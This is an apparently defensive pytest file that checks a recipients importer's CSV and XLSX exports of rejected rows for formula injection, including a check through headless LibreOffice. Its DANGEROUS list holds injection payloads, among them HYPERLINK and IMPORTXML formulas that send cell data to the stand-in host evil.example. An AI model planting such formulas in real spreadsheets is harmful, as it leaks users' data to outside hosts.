"""Files kaskad writes (rejected rows, .csv and .xlsx) never carry a live formula (CSV/formula injection).

Values a list may hold that a spreadsheet would run: `=1+1`, `=HYPERLINK(...)`, `+1+1`, `-1+1`, `@SUM(1)`,
a leading tab or carriage return. Read back with openpyxl / csv, and by LibreOffice itself when installed
(.ci/run installs it), which must show the text, not the result.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from recipients.importer import neutralise, rejected_writer

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["+", "8 999 123-45-67", "hello", ""]


def write_rejected(path: Path) -> Path:
    with rejected_writer(path) as out:
        for row, value in enumerate(DANGEROUS + HARMLESS, start=2):
            out(row, value, f"reason {value}")
    return path


def test_the_rule_prefixes_a_quote_to_formula_starts_only() -> None:
    assert [neutralise(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert neutralise("'=1+1") == "'=1+1"  # already starts with a quote: harmless as it is
    assert [neutralise(v) for v in ["8 999", "hello", "", " =1"]] == ["8 999", "hello", "", " =1"]


def test_csv_export_neutralises_every_formula_start(tmp_path: Path) -> None:
    path = write_rejected(tmp_path / "rejected.csv")
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["row", "value", "reason"]
    values = [row[1] for row in rows[1:]]
    assert values[: len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
    assert values[len(DANGEROUS) :] == ["'+", *HARMLESS[1:]]
    for row in rows[1:]:
        assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(tmp_path: Path) -> None:
    path = write_rejected(tmp_path / "rejected.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # The original text, no visible quote: the cells carry the quote-prefix style instead, which Excel and Calc
    # keep as text even when the cell is edited. (XML reads a raw carriage return back as a line feed.)
    assert values[: len(DANGEROUS)] == [v.replace("\r", "\n") for v in DANGEROUS]
    assert values[len(DANGEROUS) :] == [*HARMLESS[:-1], None]  # an empty string cell reads back as None
    prefixed = [row[1].quotePrefix for row in sheet.iter_rows(min_row=2)]
    assert prefixed == [True] * (len(DANGEROUS) + 1) + [False] * (len(HARMLESS) - 1)


def _libreoffice_csv(source: Path, out_dir: Path) -> list[list[str]]:
    """The file as LibreOffice Calc computes it, saved as CSV (a formula shows its result there)."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is not installed: .ci/run installs libreoffice-calc-nogui"
    profile = out_dir / "profile"
    out_dir.mkdir(exist_ok=True)
    # A .csv is opened as a user opening it would: comma-separated, UTF-8, formulas evaluated (token 13).
    infilter = [] if source.suffix == ".xlsx" else ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"]
    command = [soffice, f"-env:UserInstallation=file://{profile}", "--headless", *infilter]
    command += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out_dir), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    with (out_dir / (source.stem + ".csv")).open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_libreoffice_evaluates_no_formula_in_an_export(tmp_path: Path, suffix: str) -> None:
    path = write_rejected(tmp_path / f"rejected{suffix}")
    rows = _libreoffice_csv(path, tmp_path / "converted")
    values = [row[1] for row in rows[1 : len(DANGEROUS) + 1]]
    assert "2" not in values  # =1+1, +1+1, … were not computed
    if suffix == ".xlsx":  # the text exactly as it was: the quote is a cell style, not a character
        assert values[:6] == DANGEROUS[:6]
    else:
        assert values[0] in ("=1+1", "'=1+1")  # the text is there (Calc may hide the quote prefix)
    assert all("HYPERLINK" in v or "IMPORTXML" in v for v in values[1:3])


def test_xlsx_export_replaces_characters_xlsx_cannot_hold(tmp_path: Path) -> None:
    path = tmp_path / "rejected.xlsx"
    with rejected_writer(path) as out:
        out(2, "+7999\x01000", "not a number")
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [(2, "+7999\ufffd000", "not a number")]
